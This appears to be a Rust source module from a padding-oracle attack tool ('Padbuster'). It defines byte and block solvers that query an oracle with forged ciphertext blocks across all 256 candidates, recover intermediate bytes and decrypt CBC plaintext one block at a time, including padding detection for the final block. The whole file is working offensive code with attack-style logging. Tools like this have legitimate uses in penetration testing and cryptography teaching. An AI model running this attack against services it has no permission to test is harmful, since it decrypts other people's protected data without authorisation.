use log::{error, info, warn};
use rayon::prelude::*;

use crate::{Block, Oracle, OracleQuery, PadbusterError};

/// `ByteSolver` scans the 256 candidates of one byte offset
pub struct ByteSolver<'a, O: Oracle + ?Sized> {
    oracle: &'a O,
    fan_out: usize,
}

impl<'a, O: Oracle + ?Sized> ByteSolver<'a, O> {
    /// # Arguments
    ///
    /// * `oracle` - Oracle to probe.
    /// * `fan_out` - Probes in flight at once, 1 being strictly sequential.
    ///
    pub fn new(oracle: &'a O, fan_out: usize) -> Self {
        ByteSolver {
            oracle,
            fan_out: fan_out.max(1),
        }
    }

    /// Find the intermediate byte at `offset` of `target`
    ///
    /// Candidates are tried in ascending order and the lowest accepted one
    /// wins. Returns `Ok(None)` when no candidate was accepted.
    pub fn solve(
        &self,
        target: &Block,
        offset: usize,
        hypothesis: u8,
        intermediate: &[u8],
        on_scan: &mut dyn FnMut(f64),
    ) -> Result<Option<u8>, PadbusterError> {
        let query = OracleQuery::forge(target, offset, hypothesis, intermediate);
        let candidates: Vec<u8> = (0..=255u8).collect();

        for (window, chunk) in candidates.chunks(self.fan_out).enumerate() {
            let start = window * self.fan_out;
            if start % 16 == 0 || start % 16 + chunk.len() > 16 {
                on_scan(start as f64 / 256.0);
            }

            let verdicts: Vec<(u8, Result<bool, PadbusterError>)> = if self.fan_out > 1 {
                chunk
                    .par_iter()
                    .map(|&c| (c, self.oracle.query(&query.probe(c))))
                    .collect()
            } else {
                chunk
                    .iter()
                    .map(|&c| (c, self.oracle.query(&query.probe(c))))
                    .collect()
            };

            let mut accepted = Vec::with_capacity(verdicts.len());
            for (candidate, verdict) in verdicts {
                if verdict? {
                    accepted.push(candidate);
                }
            }

            for candidate in accepted {
                if hypothesis == 1 && !self.confirm(&query, candidate)? {
                    warn!(
                        "[-] Candidate {:#04x} at byte {} only matched a longer padding",
                        candidate, offset
                    );
                    continue;
                }
                info!(
                    "[+] Success: ({}/256) [Byte {}]",
                    candidate as usize + 1,
                    offset
                );
                return Ok(Some(candidate ^ hypothesis));
            }
        }

        Ok(None)
    }

    fn confirm(&self, query: &OracleQuery, candidate: u8) -> Result<bool, PadbusterError> {
        match query.confirmation(candidate) {
            Some(probe) => self.oracle.query(&probe),
            None => Ok(true),
        }
    }
}

/// Events emitted while a block is being solved
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum SolveEvent {
    /// Fraction of the current byte's candidates already probed.
    Scanning(f64),
    /// A plaintext byte was recovered at `offset`.
    Solved { offset: usize, plaintext: u8 },
}

/// `BlockSolver` recovers one plaintext block, last byte first
pub struct BlockSolver<'a, O: Oracle + ?Sized> {
    bytes: ByteSolver<'a, O>,
    block_index: usize,
    predecessor: &'a Block,
    target: &'a Block,
    final_block: bool,
    genuine_pad: Option<u8>,
}

impl<'a, O: Oracle + ?Sized> BlockSolver<'a, O> {
    /// # Arguments
    ///
    /// * `bytes` - Byte scanner to drive.
    /// * `block_index` - Index of `target` in the ciphertext (for diagnostics).
    /// * `predecessor` - Real ciphertext block preceding `target`.
    /// * `target` - Block to decrypt.
    ///
    pub fn new(
        bytes: ByteSolver<'a, O>,
        block_index: usize,
        predecessor: &'a Block,
        target: &'a Block,
    ) -> Self {
        BlockSolver {
            bytes,
            block_index,
            predecessor,
            target,
            final_block: false,
            genuine_pad: None,
        }
    }

    /// Mark `target` as the last block of the message
    ///
    /// `genuine_pad` is the padding length when already known (resumed attack).
    pub fn final_block(mut self, genuine_pad: Option<u8>) -> Self {
        self.final_block = true;
        self.genuine_pad = genuine_pad;
        self
    }

    /// Genuine padding length, known once the last byte of the final block is solved
    pub fn genuine_pad(&self) -> Option<u8> {
        self.genuine_pad
    }

    /// Solve every byte not covered by `known`
    ///
    /// `known` is the already recovered plaintext suffix of the block.
    /// Returns the whole untrimmed plaintext block.
    pub fn solve(
        &mut self,
        known: &[u8],
        on_event: &mut dyn FnMut(SolveEvent),
    ) -> Result<Vec<u8>, PadbusterError> {
        let size = self.target.len();
        let mut plaintext = known.to_vec();
        let mut intermediate =
            Block::from_slice(known).xor(&self.predecessor[size - known.len()..]).to_vec();

        while plaintext.len() < size {
            let offset = size - 1 - plaintext.len();
            let hypothesis = (plaintext.len() + 1) as u8;

            let byte = self.solve_byte(offset, hypothesis, &intermediate, on_event)?;
            let plain = byte ^ self.predecessor[offset];

            if self.final_block && self.genuine_pad.is_none() {
                self.genuine_pad = Some(check_padding(plain, size)?);
                info!("[+] Genuine padding length is {}", plain);
            }

            intermediate.insert(0, byte);
            plaintext.insert(0, plain);
            on_event(SolveEvent::Solved {
                offset,
                plaintext: plain,
            });
        }

        Ok(plaintext)
    }

    fn solve_byte(
        &mut self,
        offset: usize,
        hypothesis: u8,
        intermediate: &[u8],
        on_event: &mut dyn FnMut(SolveEvent),
    ) -> Result<u8, PadbusterError> {
        // Padding bytes of the final block decrypt to the padding length.
        if self.final_block && self.genuine_pad == Some(hypothesis) {
            let byte = self.predecessor[offset] ^ hypothesis;
            info!(
                "[+] Byte {} is genuine padding, intermediate {:02x}",
                offset, byte
            );
            return Ok(byte);
        }

        let found = self.bytes.solve(
            self.target,
            offset,
            hypothesis,
            intermediate,
            &mut |fraction: f64| on_event(SolveEvent::Scanning(fraction)),
        )?;
        match found {
            Some(byte) => Ok(byte),
            None if self.final_block && offset == self.target.len() - 1 => {
                warn!("[-] Original padding already valid, assuming padding length 1");
                self.genuine_pad = Some(1);
                Ok(self.predecessor[offset] ^ 1)
            }
            None => {
                let e = PadbusterError::ByteNotFoundError(self.block_index, offset);
                error!("{}", e);
                Err(e)
            }
        }
    }
}

fn check_padding(pad: u8, block_size: usize) -> Result<u8, PadbusterError> {
    if pad == 0 || pad as usize > block_size {
        let e = PadbusterError::InvalidPaddingError(pad);
        error!("{}", e);
        return Err(e);
    }
    Ok(pad)
}
